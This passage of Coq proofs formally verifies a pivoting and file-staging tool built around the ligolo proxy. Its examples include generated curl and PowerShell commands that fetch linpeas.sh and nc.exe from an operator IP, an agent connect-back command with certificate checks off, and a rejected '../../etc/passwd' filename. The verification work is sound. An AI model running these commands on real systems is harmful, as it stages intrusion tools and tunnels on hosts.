            /\ ProxyBinary c
               = filepath.Join [fst (fst (core.DefaultAppDataDir w)); "ligolo"; "proxy"]
            /\ snd (os_Stat w (filepath.Join [fst (fst (core.DefaultAppDataDir w));
                                              "ligolo"; "proxy"])) = None))
    /\ ProxyBind c <> "" /\ validPort (ProxyPort c)
    /\ let args := ["-laddr"; ProxyBind c ++ ":" ++ itoa (ProxyPort c); "-selfcert"] in
       let err := exec_Start w (ProxyBinary c) args in
       core.StartProxy cfg w
       = (mkCmd (ProxyBinary c) args (isNil err), err,
          app t [EvStart (ProxyBinary c) args (isNil err)]).
Proof.
  pose proof (SanitizeConfig_sanitized cfg w) as (H1 & _ & H3 & H4 & _).
  pose proof (SanitizeConfig_fields cfg w) as (F1 & F2 & _).
  pose proof (SanitizeConfig_proxy_binary cfg w) as B.
  pose proof (quiet_spawn_SanitizeConfig cfg w) as Hq.
  unfold yields in *. unfold core.StartProxy, bind.
  destruct (core.SanitizeConfig cfg w) as [c t]. cbn [fst snd] in *.
  exists c, t.
  split; [reflexivity|]. split; [exact Hq|]. split; [exact F1|]. split; [exact F2|].
  split; [exact H4|]. split; [exact B|]. split; [exact H3|]. split; [exact H1|].
  unfold cmd_Start, ret. cbv zeta. rewrite app_nil_r. reflexivity.
Qed.

(** A configuration that still names the legacy install path is started
    from the new application data directory, which exists here. *)
Example StartProxy_migrated :
  fst (core.StartProxy
         (mkConfig " 10.0.0.1 " 70000 "" (fst (core.LegacyAppDataDirPath Examples.calm)
                                            ++ "/ligolo/proxy") "" "" 0 "/srv")
         Examples.calm)
  = (mkCmd "/home/op/.local/share/PivotOnTheGO/ligolo/proxy"
           ["-laddr"; "10.0.0.1:11601"; "-selfcert"] true, None).
Proof. vm_compute. reflexivity. Qed.

Example StartProxy_default :
  fst (core.StartProxy core.DefaultConfig Examples.calm)
  = (mkCmd "/opt/ligolo/proxy" ["-laddr"; "127.0.0.1:11601"; "-selfcert"] true, None).
Proof. vm_compute. reflexivity. Qed.

Lemma isNil_None (e : error) : isNil e = true -> e = None.
Proof. destruct e; [discriminate | reflexivity]. Qed.

Lemma CheckLigoloInstalled_report (w : World) :
  yields core.CheckLigoloInstalled w (ligoloReport w).
Proof.
  unfold core.CheckLigoloInstalled.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [cfg0 err0] _.
  destruct (match err0 with Some e => if isNotExist e then None else Some e | None => None end).
  { apply yields_ret. reflexivity. }
  apply yields_bind with (R1 := sanitized); [apply SanitizeConfig_sanitized|].
  intros cfg (_ & _ & _ & Hbin & Hagent & _).
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [installDir [e|]] _.
  { apply yields_ret. reflexivity. }
  destruct (ProxyBinary cfg =? "") eqn:E.
  { apply String.eqb_eq in E. contradiction. }
  apply (yields_bind _ _ _ _ _ (yields_stat w _)). intros [d1 err1] E1.
  destruct (isNil err1) eqn:N1; cbn [negb].
  2:{ apply yields_ret. unfold ligoloReport. cbn.
      repeat split; try assumption; try discriminate. }
  apply (yields_bind _ _ _ _ _ (yields_stat w _)). intros [d2 err2] E2.
  destruct (isNil err2) eqn:N2; cbn [negb].
  2:{ apply yields_ret. unfold ligoloReport. cbn.
      repeat split; try assumption; try discriminate. }
  apply yields_ret. unfold ligoloReport.
  cbn [fst snd core.ProxyPath core.AgentName core.Reason core.Installed core.InstallDir].
  apply isNil_None in N1, N2.
  repeat split; try assumption; try discriminate.
  - now rewrite <- E1.
  - now rewrite <- E2.
Qed.

Lemma quiet_spawn_CheckLigoloInstalled : silent isSpawn core.CheckLigoloInstalled.
Proof.
  assert (silent isSpawn core.LoadConfig) by (apply silent_LoadConfig; reflexivity).
  assert (forall c, silent isSpawn (core.SanitizeConfig c))
    by (intros c; apply silent_SanitizeConfig; reflexivity).
  assert (silent isSpawn core.DefaultAppDataDir)
    by (apply silent_DefaultAppDataDir; reflexivity).
  unfold core.CheckLigoloInstalled, core.LigoloInstallDir.
  repeat first
    [ apply silent_ret
    | apply silent_stat; reflexivity
    | assumption | apply H0
    | apply silent_bind; [| intros ?]
    | match goal with
      | |- silent _ (match ?x with _ => _ end) => destruct x
      | |- silent _ (if ?x then _ else _) => destruct x
      end ].
Qed.

(** X14. [CheckLigoloInstalled] either fails with the zero status, or
    reports a status whose proxy path and agent name are not empty. The
    status says installed exactly when its reason is empty, and then
    [os.Stat] succeeded on the proxy path and on the agent inside the
    install directory. The reason [proxy binary path not set] is never
    given, since the sanitised configuration always names a proxy binary.
    The check spawns no process. *)
Theorem CheckLigoloInstalled_sound (w : World) :
  ligoloReport w (fst (core.CheckLigoloInstalled w))
  /\ existsb isSpawn (snd (core.CheckLigoloInstalled w)) = false.
Proof.
  split; [apply CheckLigoloInstalled_report | apply quiet_spawn_CheckLigoloInstalled].
Qed.

Example CheckLigoloInstalled_ex :
  fst (core.CheckLigoloInstalled Examples.calm)
  = (core.mkLigolo true "/opt/ligolo/proxy" "agent" "/home/op/.local/share/PivotOnTheGO/ligolo" "",
     None).
Proof. vm_compute. reflexivity. Qed.

End Configuration.

(** ** The HTTP handlers *)

Section Handlers.

Import Contract ui Lifecycle.

Lemma method_mismatch (m expected : string) :
  m <> expected -> negb (m =? expected) = true.
Proof. intros H. apply String.eqb_neq in H. now rewrite H. Qed.

Lemma serve_wrong_method (ep : Endpoint) (r : Request) (st : State) (w : World) :
  Method r <> methodOf ep ->
  serve ep r st w = (respondError StatusMethodNotAllowed "method not allowed", st, []).
Proof.
  intros H. apply method_mismatch in H.
  destruct ep; cbn [serve methodOf] in *;
    [ unfold handleStartProxy | unfold handleStopProxy | unfold handleStatus
    | unfold handleFileStart | unfold handleFileStop | unfold handleFileStatus ];
    rewrite H; reflexivity.
Qed.

(** X15. Every handler checks the method first: a request with another
    method than the one the endpoint serves (POST for start, stop and
    scout; GET for the status endpoints and the download command) is
    answered 405 [method not allowed]; the handles are left as they were
    and nothing is read, written or run. *)
Theorem wrong_method_refused :
  (forall ep r st w,
      Method r <> methodOf ep ->
      serve ep r st w = (respondError StatusMethodNotAllowed "method not allowed", st, []))
  /\ (forall r w,
         Method r <> "POST" ->
         handleFSScout r w = (respondError StatusMethodNotAllowed "method not allowed", []))
  /\ (forall r query w,
         Method r <> "GET" ->
         handleFileCommand r query w
         = (respondError StatusMethodNotAllowed "method not allowed", [])).
Proof.
  split; [exact serve_wrong_method|]. split.
  - intros r w H. apply method_mismatch in H. unfold handleFSScout. now rewrite H.
  - intros r query w H. apply method_mismatch in H. unfold handleFileCommand. now rewrite H.
Qed.

Lemma wrong_method_refused_witness :
  serve ApiStopProxy Examples.getRequest
        (mkState (Some (mkCmd "/opt/ligolo/proxy" [] true)) None) Examples.calm
  = (respondError 405 "method not allowed",
     mkState (Some (mkCmd "/opt/ligolo/proxy" [] true)) None, [])
  /\ handleFSScout Examples.getRequest Examples.calm
     = (respondError 405 "method not allowed", []).
Proof.
  destruct wrong_method_refused as (H1 & H2 & _). split.
  - apply H1. discriminate.
  - apply H2. discriminate.
Defined.

Lemma handleStopProxy_keeps_fileSrv (r : Request) (st : State) (w : World) :
  fileSrv (snd (fst (handleStopProxy r st w))) = fileSrv st.
Proof.
  unfold handleStopProxy.
  destruct (negb (Method r =? "POST")); [reflexivity|].
  destruct (proxyCmd st) as [c|]; [|reflexivity].
  destruct (Process c); reflexivity.
Qed.

Lemma handleFileStop_keeps_proxyCmd (r : Request) (st : State) (w : World) :
  proxyCmd (snd (fst (handleFileStop r st w))) = proxyCmd st.
Proof.
  unfold handleFileStop.
  destruct (negb (Method r =? "POST")); [reflexivity|].
  destruct (fileSrv st) as [s|]; [|reflexivity].
  unfold bind, srv_Shutdown_.
  destruct (srv_Shutdown w s) as [e|]; [destruct (negb (isServerClosed e))|]; reflexivity.
Qed.

Lemma not_ok_same (st : State) (out : Response * State) (t : list Event) :
  stepInv st out t -> Status (fst out) <> StatusOK -> snd out = st.
Proof. intros [_ [H|H]] N; [contradiction | exact H]. Qed.

Lemma handleStartProxy_keeps_fileSrv (r : Request) (st : State) (w : World) :
  fileSrv (snd (fst (handleStartProxy r st w))) = fileSrv st.
Proof.
  destruct (handleStartProxy_inv r st w) as [[_ S] P]. unfold proxyStarted in P.
  destruct S as [S|S].
  - destruct (P S) as [_ [c ->]]. reflexivity.
  - now rewrite S.
Qed.

Lemma handleFileStart_keeps_proxyCmd (r : Request) (st : State) (w : World) :
  proxyCmd (snd (fst (handleFileStart r st w))) = proxyCmd st.
Proof.
  destruct (handleFileStart_inv r st w) as [[_ S] P]. unfold fileStarted in P.
  destruct S as [S|S].
  - destruct (P S) as [_ [c ->]]. reflexivity.
  - now rewrite S.
Qed.

(** X16. The two handles are independent and change only on success. An
    answer other than 200 leaves both handles as they were, whatever the
    endpoint. The proxy endpoints never touch the file-server handle, the
    file-server endpoints never touch the proxy handle, and the two status
    endpoints change nothing and perform no effect. *)
Theorem handles_independent (ep : Endpoint) (r : Request) (st : State) (w : World) :
  (Status (fst (fst (serve ep r st w))) <> StatusOK -> snd (fst (serve ep r st w)) = st)
  /\ match ep with
     | ApiStartProxy | ApiStopProxy =>
         fileSrv (snd (fst (serve ep r st w))) = fileSrv st
     | ApiFileStart | ApiFileStop =>
         proxyCmd (snd (fst (serve ep r st w))) = proxyCmd st
     | ApiStatus | ApiFileStatus =>
         snd (fst (serve ep r st w)) = st /\ snd (serve ep r st w) = []
     end.
Proof.
  split.
  - exact (not_ok_same st _ _ (serve_inv ep r st w)).
  - destruct ep; cbn [serve].
    + apply handleStartProxy_keeps_fileSrv.
    + apply handleStopProxy_keeps_fileSrv.
    + unfold handleStatus. destruct (negb _); split; reflexivity.
    + apply handleFileStart_keeps_proxyCmd.
    + apply handleFileStop_keeps_proxyCmd.
    + unfold handleFileStatus. destruct (negb _); split; reflexivity.
Qed.

(** Starting and stopping the file server while the proxy runs leaves
    the proxy handle alone. *)
Example file_server_beside_proxy :
  fst (fst (run [(ApiStartProxy, Examples.postRequest, Examples.calm);
                 (ApiFileStart, Examples.postRequest, Examples.calm);
                 (ApiFileStop, Examples.postRequest, Examples.calm)] initial))
  = mkState (Some (mkCmd "/opt/ligolo/proxy" ["-laddr"; "127.0.0.1:11601"; "-selfcert"] true))
            None.
Proof. vm_compute. reflexivity. Qed.

Lemma Contains_byte (c : ascii) (s : string) :
  strings.Contains s (String c "") = hasByte c s.
Proof.
  induction s as [|x r IH]; [reflexivity|].
  cbn [strings.Contains hasByte prefix]. rewrite IH.
  destruct (ascii_dec c x) as [->|N].
  - now rewrite prefix_nil, Ascii.eqb_refl.
  - assert (E : Ascii.eqb x c = false) by (apply Ascii.eqb_neq; congruence).
    now rewrite E.
Qed.

Lemma safeFilename_test (f : string) :
  safeFilename f
  = negb ((f =? "") || strings.Contains f "/" || strings.Contains f "\"
          || strings.Contains f "..").
Proof.
  unfold safeFilename. rewrite <- !Contains_byte.
  destruct (f =? ""), (strings.Contains f "/"), (strings.Contains f "\"),
           (strings.Contains f ".."); reflexivity.
Qed.

(** What a 200 of [handleFileCommand] carries. *)
Lemma handleFileCommand_ok (r : Request) (query : string -> string) (w : World) :
  yields (handleFileCommand r query) w
    (fun resp =>
       Status resp = StatusOK ->
       Method r = "GET"
       /\ (query "os" = "linux" \/ query "os" = "windows")
       /\ safeFilename (strings.TrimSpace (query "filename")) = true
       /\ exists cfg0,
           fst (loadConfigOrDefault w) = Some cfg0
           /\ Payload_ resp
              = StrMap [("command",
                         downloadCommand (query "os") (strings.TrimSpace (PublicIP cfg0))
                           (if core.outOfPortRange (FilePort cfg0) then 8000%Z
                            else FilePort cfg0)
                           (strings.TrimSpace (query "filename")))]).
Proof.
  unfold handleFileCommand.
  destruct (Method r =? "GET") eqn:Em; cbn [negb]; [|apply yields_ret; discriminate].
  apply String.eqb_eq in Em. cbv zeta.
  assert (Hos : negb (query "os" =? "linux") && negb (query "os" =? "windows") = false ->
                query "os" = "linux" \/ query "os" = "windows").
  { destruct (query "os" =? "linux") eqn:E1; [left; now apply String.eqb_eq|].
    destruct (query "os" =? "windows") eqn:E2; [right; now apply String.eqb_eq|].
    discriminate. }
  destruct (negb (query "os" =? "linux") && negb (query "os" =? "windows"));
    [apply yields_ret; discriminate|].
  specialize (Hos eq_refl).
  pose proof (safeFilename_test (strings.TrimSpace (query "filename"))) as Hs.
  destruct ((strings.TrimSpace (query "filename") =? "") || _ || _ || _);
    [apply yields_ret; discriminate|].
  cbn [negb] in Hs.
  apply (yields_bind _ _ _ _ _ (yields_self _ w)). intros [cfg0|] Hl;
    [|apply yields_ret; discriminate].
  apply (yields_bind _ _ _ _ _ (SanitizeConfig_fields cfg0 w)).
  intros cfg (_ & _ & Hip & _ & Hfp). apply yields_ret. intros _.
  repeat (split; [assumption|]). exists cfg0. split; [now rewrite <- Hl|].
  rewrite <- Hip, <- Hfp. reflexivity.
Qed.

(** A well-formed request is served whenever the configuration loads. *)
Lemma handleFileCommand_served (r : Request) (query : string -> string) (w : World)
      (cfg0 : Config) :
  Method r = "GET" ->
  query "os" = "linux" \/ query "os" = "windows" ->
  safeFilename (strings.TrimSpace (query "filename")) = true ->
  fst (loadConfigOrDefault w) = Some cfg0 ->
  yields (handleFileCommand r query) w
    (fun resp =>
       resp = respondJSON StatusOK
                (StrMap [("command",
                          downloadCommand (query "os") (strings.TrimSpace (PublicIP cfg0))
                            (if core.outOfPortRange (FilePort cfg0) then 8000%Z
                             else FilePort cfg0)
                            (strings.TrimSpace (query "filename")))])).
Proof.
  intros Hm Hos Hs Hl. unfold handleFileCommand. rewrite Hm.
  change (negb ("GET" =? "GET")) with false. cbv beta iota zeta.
  assert (E : negb (query "os" =? "linux") && negb (query "os" =? "windows") = false).
  { destruct Hos as [->| ->]; reflexivity. }
  rewrite E. rewrite safeFilename_test in Hs. apply negb_true_iff in Hs. rewrite Hs.
  apply (yields_bind _ _ _ _ _ (yields_self _ w)). intros a ->. rewrite Hl.
  apply (yields_bind _ _ _ _ _ (SanitizeConfig_fields cfg0 w)).
  intros cfg (_ & _ & Hip & _ & Hfp). apply yields_ret.
  rewrite <- Hip, <- Hfp. reflexivity.
Qed.

Lemma handleFileCommand_unsafe (r : Request) (query : string -> string) (w : World) :
  Method r = "GET" ->
  query "os" = "linux" \/ query "os" = "windows" ->
  safeFilename (strings.TrimSpace (query "filename")) = false ->
  handleFileCommand r query w = (respondError StatusBadRequest "invalid filename", []).
Proof.
  intros Hm Hos Hs. unfold handleFileCommand. rewrite Hm.
  change (negb ("GET" =? "GET")) with false. cbv beta iota zeta.
  assert (E : negb (query "os" =? "linux") && negb (query "os" =? "windows") = false).
  { destruct Hos as [->| ->]; reflexivity. }
  rewrite E. rewrite safeFilename_test in Hs. apply negb_false_iff in Hs.
  now rewrite Hs.
Qed.

Lemma quiet_spawn_handleFileCommand (r : Request) (query : string -> string) :
  silent isSpawn (handleFileCommand r query).
Proof.
  assert (silent isSpawn loadConfigOrDefault)
    by (apply silent_loadConfigOrDefault; reflexivity).
  assert (H0 : forall c, silent isSpawn (core.SanitizeConfig c))
    by (intros c; apply silent_SanitizeConfig; reflexivity).
  unfold handleFileCommand. cbv zeta.
  repeat first
    [ apply silent_ret
    | assumption | apply H0
    | apply silent_bind; [| intros ?]
    | match goal with
      | |- silent _ (match ?x with _ => _ end) => destruct x
      | |- silent _ (if ?x then _ else _) => destruct x
      end ].
Qed.

(** X17. The download-command endpoint hands out a command only for a
    safe file name, and the command is built from the loaded
    configuration. A 200 means a GET for [linux] or [windows] whose
    trimmed file name is not empty and contains no slash, no backslash and
    no [..], and a configuration that loaded (the stored one, or the
    defaults when there is no file). Conversely such a request is answered
    200 whenever the configuration loads, and the command is the curl
    line (for [linux]) or the PowerShell line (for [windows]) that fetches
    [http://<ip>:<port>/<file name>], where the IP is the public IP of the
    loaded configuration, trimmed, and the port is its file port, or 8000
    when that is outside 1..65535. A GET for [linux] or [windows] with any
    other file name is answered 400 [invalid filename] with no effect at
    all. The endpoint never spawns a process. *)
Theorem handleFileCommand_safe (r : Request) (query : string -> string) (w : World) :
  (Status (fst (handleFileCommand r query w)) = StatusOK ->
   Method r = "GET"
   /\ (query "os" = "linux" \/ query "os" = "windows")
   /\ safeFilename (strings.TrimSpace (query "filename")) = true
   /\ exists cfg0, fst (loadConfigOrDefault w) = Some cfg0)
  /\ (forall cfg0,
         Method r = "GET" ->
         query "os" = "linux" \/ query "os" = "windows" ->
         safeFilename (strings.TrimSpace (query "filename")) = true ->
         fst (loadConfigOrDefault w) = Some cfg0 ->
         fst (handleFileCommand r query w)
         = respondJSON StatusOK
             (StrMap [("command",
                       downloadCommand (query "os") (strings.TrimSpace (PublicIP cfg0))
                         (if core.outOfPortRange (FilePort cfg0) then 8000%Z
                          else FilePort cfg0)
                         (strings.TrimSpace (query "filename")))]))
  /\ (Method r = "GET" ->
      query "os" = "linux" \/ query "os" = "windows" ->
      safeFilename (strings.TrimSpace (query "filename")) = false ->
      handleFileCommand r query w = (respondError StatusBadRequest "invalid filename", []))
  /\ existsb isSpawn (snd (handleFileCommand r query w)) = false.
Proof.
  split.
  { intros H. destruct (handleFileCommand_ok r query w H) as (Hm & Hos & Hs & cfg0 & Hl & _).
    repeat (split; [assumption|]). now exists cfg0. }
  split; [intros cfg0; exact (handleFileCommand_served r query w cfg0)|].
  split; [exact (handleFileCommand_unsafe r query w)|].
  apply quiet_spawn_handleFileCommand.
Qed.

Lemma handleFileCommand_safe_witness :
  handleFileCommand Examples.getRequest
    (fun k => if k =? "os" then "linux" else "../../etc/passwd") Examples.calm
  = (respondError 400 "invalid filename", [])
  /\ fst (handleFileCommand Examples.getRequest
            (fun k => if k =? "os" then "linux" else " linpeas.sh ")
            (Examples.withConfig Examples.calm
               (mkConfig "127.0.0.1" 11601 " 10.10.14.3 " "/opt/ligolo/proxy" "agent"
                         "0.0.0.0" 0 "/srv")))
     = respondJSON 200
         (StrMap [("command", "curl -o linpeas.sh http://10.10.14.3:8000/linpeas.sh")]).
Proof.
  split.
  - apply (handleFileCommand_safe Examples.getRequest
             (fun k => if k =? "os" then "linux" else "../../etc/passwd") Examples.calm).
    + reflexivity.
    + left. reflexivity.
    + reflexivity.
  - apply (proj1 (proj2 (handleFileCommand_safe Examples.getRequest
             (fun k => if k =? "os" then "linux" else " linpeas.sh ")
             (Examples.withConfig Examples.calm
                (mkConfig "127.0.0.1" 11601 " 10.10.14.3 " "/opt/ligolo/proxy" "agent"
                          "0.0.0.0" 0 "/srv"))))
             (mkConfig "127.0.0.1" 11601 "10.10.14.3" "/opt/ligolo/proxy" "agent"
                       "0.0.0.0" 8000 "/srv")).
    + reflexivity.
    + left. reflexivity.
    + reflexivity.
    + reflexivity.
Defined.

Example handleFileCommand_ex :
  fst (handleFileCommand Examples.getRequest
         (fun k => if k =? "os" then "windows" else " nc.exe ") Examples.calm)
  = respondJSON 200
      (StrMap [("command",
                "powershell -Command " ++ dq
                ++ "Invoke-WebRequest -Uri 'http://CHANGEME_PUBLIC_IP:8000/nc.exe' -OutFile 'nc.exe'" ++ dq)]).
Proof. vm_compute. reflexivity. Qed.

Lemma handleFSScout_undecoded (r : Request) (w : World) (req : FSScoutRequest) (e : GoError) :
  Method r = "POST" ->
  json_Decode_Request w (Body r) = (req, Some e) ->
  handleFSScout r w = (respondError StatusBadRequest (Error e), []).
Proof.
  intros Hm Hd. unfold handleFSScout. rewrite Hm.
  change (negb ("POST" =? "POST")) with false. cbv beta iota.
  unfold bind, json_Decode_Request_, ret. now rewrite Hd.
Qed.

Lemma handleFSScout_ok (r : Request) (w : World) :
  Status (fst (handleFSScout r w)) = StatusOK ->
  Method r = "POST"
  /\ exists req res t,
      json_Decode_Request w (Body r) = (req, None)
      /\ missingField req = false
      /\ core.RunFSScout req w = (res, None, t)
      /\ handleFSScout r w = (respondJSON StatusOK (ScoutPayload res), t).
Proof.
  unfold handleFSScout.
  destruct (Method r =? "POST") eqn:Em; cbn [negb]; [|discriminate].
  apply String.eqb_eq in Em.
  unfold bind, json_Decode_Request_, ret.
  destruct (json_Decode_Request w (Body r)) as [req [e|]]; [discriminate|].
  destruct (core.RunFSScout req w) as [[res [e|]] t] eqn:R; [discriminate|].
  intros _. split; [exact Em|]. exists req, res, t.
  split; [reflexivity|]. split; [|split; [exact R|]].
  - destruct (missingField req) eqn:M; [|reflexivity].
    destruct (RunFSScout_missing req w M) as [e' R']. congruence.
  - cbn [app]. now rewrite app_nil_r.
Qed.

(** X18. The scout endpoint runs a scout only for a body that decodes. A
    POST whose body does not decode is answered 400 with the decoder's
    message and has no effect. A 200 means a POST whose body decoded to a
    request with every mandatory field present, on which [RunFSScout]
    returned no error; the body of the answer is the result of that run
    and the effects are exactly those of the run. *)
Theorem handleFSScout_outcomes (r : Request) (w : World) :
  (forall req e,
      Method r = "POST" ->
      json_Decode_Request w (Body r) = (req, Some e) ->
      handleFSScout r w = (respondError StatusBadRequest (Error e), []))
  /\ (Status (fst (handleFSScout r w)) = StatusOK ->
      Method r = "POST"
      /\ exists req res t,
          json_Decode_Request w (Body r) = (req, None)
          /\ missingField req = false
          /\ core.RunFSScout req w = (res, None, t)
          /\ handleFSScout r w = (respondJSON StatusOK (ScoutPayload res), t)).
Proof.
  split.
  - intros req e. apply handleFSScout_undecoded.
  - apply handleFSScout_ok.
Qed.

Lemma handleFSScout_outcomes_witness :
  handleFSScout Examples.postRequest Examples.calm = (respondError 400 "EOF", []).
Proof.
  apply (proj1 (handleFSScout_outcomes Examples.postRequest Examples.calm)
               (mkRequest "" "" 0 "" "" "" "" 0 "") (errors_New "EOF")).
  - reflexivity.
  - reflexivity.
Defined.

Example handleFSScout_ex :
  Status (fst (handleFSScout Examples.postRequest
                 (Examples.withBody Examples.calm Examples.sshReq))) = 200%Z.
Proof. vm_compute. reflexivity. Qed.

End Handlers.

(** ** The agent command *)

Section AgentCommand.

Import Contract.

Lemma SanitizeConfig_agent_fields (cfg : Config) (w : World) :
  yields (core.SanitizeConfig cfg) w
    (fun c =>
       AgentBinary c = (if strings.TrimSpace (AgentBinary cfg) =? "" then core.defaultAgentBinary
                        else strings.TrimSpace (AgentBinary cfg))
       /\ PublicIP c = strings.TrimSpace (PublicIP cfg)
       /\ ProxyPort c = (if core.outOfPortRange (ProxyPort cfg) then core.defaultProxyPort
                         else ProxyPort cfg)).
Proof.
  unfold core.SanitizeConfig.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros oldAppData _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [newAppData e0] _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros proxyBinary _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros fileDirectory _.
  apply yields_ret. repeat split.
Qed.

(** X19. The Linux agent command does not depend on the state of the
    disk: it is [./<agent> -connect <ip>:<port> -ignore-cert] where the
    agent is the configured name trimmed, or [agent] when that is empty,
    the IP is the configured public IP trimmed, and the port is the
    configured proxy port, or 11601 when that is outside 1..65535.
    Composing the command spawns no process. *)
Theorem AgentCmdLinux_command (cfg : Config) (w : World) :
  fst (core.AgentCmdLinux cfg w)
  = "./" ++ (if strings.TrimSpace (AgentBinary cfg) =? "" then "agent"
             else strings.TrimSpace (AgentBinary cfg))
    ++ " -connect " ++ strings.TrimSpace (PublicIP cfg) ++ ":"
    ++ itoa (if core.outOfPortRange (ProxyPort cfg) then 11601%Z else ProxyPort cfg)
    ++ " -ignore-cert"
  /\ existsb isSpawn (snd (core.AgentCmdLinux cfg w)) = false.
Proof.
  split.
  - pose proof (SanitizeConfig_agent_fields cfg w) as H. unfold yields in H.
    unfold core.AgentCmdLinux, bind, ret.
    destruct (core.SanitizeConfig cfg w) as [c t]. cbn [fst] in *.
    destruct H as (-> & -> & ->). reflexivity.
  - assert (H : silent isSpawn (core.AgentCmdLinux cfg)).
    { unfold core.AgentCmdLinux. apply silent_bind.
      - apply silent_SanitizeConfig; reflexivity.
      - intros c. apply silent_ret. }
    apply H.
Qed.

Example AgentCmdLinux_ex :
  fst (core.AgentCmdLinux
         (mkConfig "127.0.0.1" 0 " 10.10.14.3 " "" "  " "" 0 "/srv") Examples.calm)
  = "./agent -connect 10.10.14.3:11601 -ignore-cert".
Proof. vm_compute. reflexivity. Qed.

End AgentCommand.
